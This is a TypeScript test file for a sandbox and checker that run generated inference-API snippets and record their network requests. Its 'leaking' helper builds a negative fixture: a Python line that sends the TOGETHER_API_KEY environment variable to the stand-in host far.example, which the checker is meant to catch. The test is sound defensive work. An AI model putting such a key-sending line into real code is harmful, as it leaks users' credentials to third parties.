import { join } from "node:path";
import { type CallOptions, snippets } from "@vitrine/inference";
import type { ModelRecord } from "@vitrine/model";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { Result } from "../check.ts";
import { mutantsOf } from "../mutation/mutants.ts";
import { temporaryFolder } from "../processes/temporaryFolder.ts";
import { EXTENSIONS, type Subject } from "../subject.ts";
import { CLIENT_NAMES, clientOf } from "./clients.ts";
import { createAuthority } from "./recorder/certificates.ts";
import { requests, runCalls } from "./requests.ts";
import { type Execution, openSandbox } from "./sandbox/sandbox.ts";
import { specOf } from "./spec.ts";
import { findTooling, missingTools } from "./tooling.ts";

const tooling = findTooling();
const missing = missingTools(tooling);
for (const name of missing) console.warn(`SKIPPED without ${name} (${requests.installHint}): the check of calls`);
const hasOpenssl = tooling.versions.has("openssl");
const isComplete = missing.length === 0;
const MINUTES = { timeout: 180_000 };

const CHAT: ModelRecord = { id: "acme/chat", tags: ["conversational"], pipeline_tag: "text-generation" };
const ofTask = (task: string): ModelRecord => ({ id: "acme/model", tags: [], pipeline_tag: task });

/** A subject for every snippet of a call. */
function subjectsFor(model: ModelRecord, options: CallOptions): readonly Subject[] {
	return snippets(model, options).map(({ language, client, content, shape = "" }, at) => ({
		id: `call/${model.pipeline_tag}/${options.provider}/${at}/${client}.${EXTENSIONS[language]}`,
		language,
		text: content,
		shape,
		model,
		call: { client, options },
	}));
}

describe.skipIf(!hasOpenssl)("a sandbox", () => {
	const { folder, remove } = temporaryFolder("sandbox");
	const spec = specOf(subjectsFor(CHAT, { provider: "together" })[0]!);
	const sandbox = createAuthority(join(folder, "authority")).then((authority) =>
		openSandbox(join(folder, "sandbox"), authority, tooling),
	);
	const inNode = async (program: string): Promise<Execution> => (await sandbox).runJavaScript(program, spec);

	afterAll(async () => {
		await (await sandbox).close();
		remove();
	});

	it("plays every host, with and without TLS, and records requests byte for byte", MINUTES, async () => {
		const {
			status,
			output,
			requests: kept,
		} = await inNode(`
			const body = new Uint8Array([0, 255, 13, 10]);
			for (const url of ["https://one.example/a?b=c", "https://two.example:8443/", "http://localhost:8080/v1/d%20e"])
				await fetch(url, { method: "POST", body, headers: { "X-Own": "ü".normalize("NFD").length + "" } });
		`);
		expect([status, output]).toEqual([0, ""]);
		expect(kept.map(({ url }) => url)).toEqual([
			"https://one.example/a?b=c",
			"https://two.example:8443/",
			"http://localhost:8080/v1/d%20e",
		]);
		expect(kept.map(({ body }) => [...body])).toEqual(kept.map(() => [0, 255, 13, 10]));
		expect(kept[0]!.headers).toMatchObject({ "x-own": "2" });
	});

	it("separates the requests of programs that follow each other", MINUTES, async () => {
		const first = await inNode(`await fetch("https://one.example/first");`);
		const second = await inNode(`await fetch("https://one.example/second");`);
		expect([first, second].map((execution) => execution.requests.map(({ url }) => url))).toEqual([
			["https://one.example/first"],
			["https://one.example/second"],
		]);
	});

	it("lets a program reach only the recorder, whose certificate nothing trusts by default", MINUTES, async () => {
		const {
			status,
			output,
			requests: kept,
		} = await inNode(`
			import net from "node:net";
			import tls from "node:tls";
			const ends = (socket) => new Promise((done) => socket.on("error", ({ code }) => done(code)).on("secureConnect", done));
			console.log(await ends(tls.connect({ host: "one.example", port: 443, servername: "one.example", ca: [] })));
			const socket = net.connect({ host: "192.0.2.1", port: 80 }, () => socket.end("GET /plain HTTP/1.1\\r\\nHost: far.example\\r\\n\\r\\n"));
			await new Promise((done) => socket.on("close", done).resume());
		`);
		expect([status, output]).toEqual([0, expect.stringMatching(/^(SELF_SIGNED|UNABLE_TO)/)]);
		expect(kept.map(({ url }) => url)).toEqual(["http://far.example/plain"]);
	});

	it("returns the status and output of a program", MINUTES, async () => {
		expect(await inNode(`console.error("told"); process.exit(3);`)).toMatchObject({ status: 3, output: "told\n" });
	});
});

/** A subject with another name and text. */
const altered = (subject: Subject, name: string, text: string): Subject =>
	Object.assign({}, subject, { id: `${subject.id.slice(0, subject.id.lastIndexOf("/"))}/${name}`, text });

describe.skipIf(!isComplete)("the check of calls", () => {
	const right = [
		...subjectsFor(CHAT, { provider: "together", streaming: true, billTo: "acme", temperature: 0, max_tokens: 5 }),
		...subjectsFor(CHAT, { provider: "zai-org", route: "router" }),
		...subjectsFor(CHAT, { endpointUrl: "http://localhost:8080/v1" }),
		...subjectsFor(ofTask("image-classification"), { provider: "hf-inference", inputs: "it's a cat.png" }),
		...subjectsFor(ofTask("automatic-speech-recognition"), { provider: "together" }),
		...subjectsFor(ofTask("text-to-video"), { provider: "fal-ai" }),
		...subjectsFor(ofTask("text-to-image"), { provider: "nscale", route: "router" }),
	];
	const mutants = mutantsOf(requests, [
		...subjectsFor(CHAT, { provider: "together", billTo: "acme" }),
		...subjectsFor(ofTask("automatic-speech-recognition"), { provider: "hf-inference" }),
		...subjectsFor(ofTask("image-to-image"), { provider: "fal-ai" }),
	]).map(({ defect, subject }) => altered(subject, defect, subject.text));
	const plain = subjectsFor(CHAT, { provider: "together" }).find(({ call }) => call!.client === "requests")!;
	const wrong: readonly (readonly [string, RegExp, string])[] = [
		["it makes no call", /^it makes no call/, ""],
		["it fails after its call", /^it exits with status 4/, `${plain.text}\nraise SystemExit(4)\n`],
		["it calls twice", /^it makes 2 calls/, `${plain.text}\n${plain.text}`],
		["it does not print the answer", /^it does not print the whole answer/, plain.text.replace(/^print\(.*/m, "")],
		["it sends what it has to another host", /^it requests https:\/\/far\.example/, leaking(plain.text)],
	];
	const found = new Map<string, Result>();

	beforeAll(async () => {
		const broken = wrong.map(([name, , text]) => altered(plain, name, text));
		await runCalls([...right, ...mutants, ...broken], ({ id }, problem) => found.set(id, problem), tooling);
	}, MINUTES.timeout);

	it("passes snippets of every client: streamed or not, on both routes, with files, forms, jobs and results", () => {
		const passed = new Set(right.map((subject) => clientOf(subject).name));
		expect(
			CLIENT_NAMES.filter((name) => !passed.has(name)),
			"add a call of theirs to `right`",
		).toEqual([]);
		expect(right.map(({ id }) => [id, found.get(id)]).filter(([, problem]) => problem !== undefined)).toEqual([]);
		expect(right.filter(({ id }) => !found.has(id))).toEqual([]);
	});

	it("finds every planted defect", () => {
		expect(mutants.map(({ id }) => id).filter((id) => found.get(id) === undefined)).toEqual([]);
		expect(mutants.length).toBeGreaterThan(30);
	});

	it.each(wrong)("fails a snippet if %s", (name, message) => {
		expect(found.get(altered(plain, name, "").id)).toMatch(message);
	});
});

/** A program that sends its key to a host that is not part of the call. */
function leaking(text: string): string {
	return `${text}\nimport os\nrequests.get("https://far.example/", headers={"X-Key": os.environ["TOGETHER_API_KEY"]})\n`;
}
